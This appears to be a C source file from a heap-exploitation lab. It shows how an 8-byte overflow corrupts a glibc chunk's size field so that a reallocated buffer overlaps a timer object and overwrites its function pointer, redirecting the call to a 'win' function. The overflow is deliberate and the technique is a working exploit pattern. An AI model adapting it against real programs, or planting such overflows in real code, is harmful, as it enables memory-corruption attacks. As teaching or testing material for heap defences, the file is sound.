/* Overlapping blocks through a corrupted size: an 8-byte overflow out of a 24-byte buffer
 * rewrites the next chunk's size field from 0x20 to 0x40. Freed, that chunk goes to the
 * 0x40 bin; the next 0x38-byte allocation gets it, and it now covers the object after it. */
#include "lab.h"

struct timer {
    void (*fire)(void);
    char pad[0x10];
};

static void fire_normally(void) { puts("timer fired normally"); }
static void win(void) { pwned("a corrupted size made a new buffer overlap the timer object"); }

int main(void) {
    lab_init();
    char *a = alloc_typed(0x18, DATA_TYPE(18));
    char *b = alloc_typed(0x18, DATA_TYPE(19));
    struct timer *t = alloc_typed(sizeof *t, PTR_TYPE(20));
    t->fire = fire_normally;
    unsigned char input[0x20];
    memset(input, 'C', 0x18);
    uint64_t fake_size = 0x41;
    memcpy(input + 0x18, &fake_size, 8);
    copy_bytes(a, input, sizeof input); /* the bug: 8 bytes too many */
    free(b);
    char *c = alloc_typed(0x38, DATA_TYPE(21)); /* on glibc: b's chunk, now 0x40 long */
    unsigned char data[0x28];
    memset(data, 'D', sizeof data);
    void (*target)(void) = win;
    memcpy(data + 0x20, &target, 8);
    memcpy(c, data, sizeof data); /* in bounds for c */
    t->fire();
    free(c);
    free(t);
    free(a);
    noeffect("the new buffer did not overlap the timer");
    return 0;
}
